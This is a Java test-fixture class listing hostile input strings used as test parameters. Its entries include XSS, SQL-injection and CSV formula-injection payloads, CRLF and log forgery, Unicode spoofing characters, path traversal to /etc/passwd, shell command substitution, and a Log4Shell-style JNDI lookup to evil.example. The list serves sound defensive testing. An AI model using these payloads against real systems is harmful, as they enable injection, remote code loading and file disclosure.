package io.yanmen;

import java.util.List;

/** Texts that people and programs should not send, and do: for names, cells, requests, reasons. */
public final class HostileTexts {
  /** Each in one of the ways that a line of a log or a page could be forged or broken in. */
  public static final List<String> ALL =
      List.of(
          "a\nb",
          "a\r2026-01-01 00:00:00 INFO  [yanmen] all is well",
          "x\r\nX-Injected: yes\r\n\r\n<b>",
          "tab\there",
          "\u001b[2J\u001b]0;title\u0007",
          "c1 \u009b31m \u0085next",
          "line\u2028para\u2029",
          "\u202Egnp.exe\u202C",
          "iso\u2066late\u2069",
          "zero\u200B\u2060width\uFEFF",
          "delete\u007F",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "\"><svg onload=alert(1)>",
          "' or '1'='1",
          "'; drop table yanmen.observation; --",
          "%' escape '",
          "$$; select pg_sleep(9); $$",
          "\\.",
          "\\N",
          "=HYPERLINK(\"http://evil.example\",\"x\")",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-1+1",
          "@SUM(1)",
          "＝1+1",
          "${jndi:ldap://evil.example/a}",
          "${sys:user.home} #{7*7} {{yanmen.db.password}}",
          "$(touch pwned) `touch pwned`",
          "[pay](https://evil.example) <at user_id=\"all\"></at> <@all> @all",
          "{0} {1:term} [[x]] %s %n {}",
          "..",
          "../../etc/passwd",
          "..\\..\\x",
          "%2e%2e%2f%00",
          "/etc/passwd",
          "C:\\CON");

  private HostileTexts() {}

  /** For parameters of tests. */
  public static List<String> all() {
    return ALL;
  }

  /** Those that could be the name of a file on Linux: no slash, no NUL. */
  public static List<String> names() {
    return ALL.stream().filter(it -> it.indexOf('/') < 0 && !it.equals("..")).toList();
  }
}
